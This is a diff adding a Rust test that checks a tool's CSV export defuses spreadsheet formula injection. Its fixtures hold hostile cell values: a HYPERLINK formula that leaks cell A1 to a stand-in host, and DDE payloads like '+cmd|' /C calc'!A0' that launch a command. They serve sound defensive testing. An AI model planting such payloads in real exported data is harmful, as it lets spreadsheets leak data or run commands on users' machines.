@@ -303,3 +303,89 @@ fn a_failed_export_leaves_no_temporary_file() {
     );
     assert!(names_in(&out).is_empty(), "nothing written into the folder");
 }
+
+#[test]
+fn csv_cells_that_a_spreadsheet_would_run_as_formulas_are_neutralised() {
+    let home = TestHome::init("Ville-Test");
+    let dir = tempfile::tempdir().unwrap_or_else(|e| panic!("{e}"));
+    let text = r#"---
+kind: evaluation
+title: '=HYPERLINK("http://example.invalid/?leak="&A1, "cliquez")'
+summary: "@SUM(1+1)*cmd|' /C calc'!A0"
+town: "+cmd|' /C calc'!A0"
+themes: [energy]
+tags: ["-2+3+cmd|' /C calc'!A0", ordinaire]
+method: metered
+indicators:
+  - { name: "=1+1", unit: "%", value: -12 }
+links:
+  - { rel: evaluates, file: nombre.md }
+---
+Corps.
+"#;
+    std::fs::write(dir.path().join("piege.md"), text).unwrap_or_else(|e| panic!("{e}"));
+    let number = r#"---
+kind: experiment
+title: -12.5
+summary: "42"
+themes: [energy]
+outcome: partial
+---
+Corps.
+"#;
+    std::fs::write(dir.path().join("nombre.md"), number).unwrap_or_else(|e| panic!("{e}"));
+    home.ok(&["publish", dir.path().to_str().unwrap_or_default()]);
+
+    let csv_text = home.ok(&["export", "--format", "csv"]);
+    let mut reader = csv::Reader::from_reader(csv_text.as_bytes());
+    let header = reader
+        .headers()
+        .unwrap_or_else(|e| panic!("{e}"))
+        .iter()
+        .map(str::to_owned)
+        .collect::<Vec<_>>();
+    let column = |name: &str| {
+        header
+            .iter()
+            .position(|h| h == name)
+            .unwrap_or_else(|| panic!("no column {name}"))
+    };
+    let rows: Vec<csv::StringRecord> = reader
+        .records()
+        .map(|r| r.unwrap_or_else(|e| panic!("{e}")))
+        .collect();
+    assert_eq!(rows.len(), 2);
+    let trap = rows
+        .iter()
+        .find(|r| r[column("kind")] == *"evaluation")
+        .unwrap_or_else(|| panic!("no evaluation row"));
+    for (name, expected) in [
+        (
+            "title",
+            r#"'=HYPERLINK("http://example.invalid/?leak="&A1, "cliquez")"#,
+        ),
+        ("summary", "'@SUM(1+1)*cmd|' /C calc'!A0"),
+        ("town", "'+cmd|' /C calc'!A0"),
+        ("tags", "'-2+3+cmd|' /C calc'!A0;ordinaire"),
+        ("indicators", "'=1+1=-12 %"),
+    ] {
+        assert_eq!(&trap[column(name)], expected, "column {name}");
+    }
+    for cell in rows.iter().flat_map(|r| r.iter()) {
+        assert!(
+            !cell.starts_with(['=', '+', '@', '\t', '\r'])
+                && (!cell.starts_with('-') || cell.parse::<f64>().is_ok()),
+            "a live formula in the CSV: {cell:?}"
+        );
+    }
+    // A cell that is a plain number stays a number.
+    let plain = rows
+        .iter()
+        .find(|r| r[column("kind")] == *"experiment")
+        .unwrap_or_else(|| panic!("no experiment row"));
+    assert_eq!(&plain[column("title")], "-12.5");
+    assert_eq!(&plain[column("summary")], "42");
+    // The JSONL export is the signed record's text, unchanged.
+    let jsonl = home.ok(&["export"]);
+    assert!(jsonl.contains(r#""title":"=HYPERLINK("#), "{jsonl}");
+}
